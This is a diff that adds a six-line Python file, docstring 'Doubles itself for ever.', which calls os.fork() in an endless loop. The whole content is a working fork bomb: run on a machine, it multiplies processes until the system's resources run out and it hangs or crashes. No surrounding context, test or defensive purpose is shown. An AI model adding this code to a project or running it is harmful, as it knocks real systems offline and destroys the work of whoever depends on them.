@@ -1,0 +1,6 @@
+"""Doubles itself for ever."""
+
+import os
+
+while True:
+    os.fork()
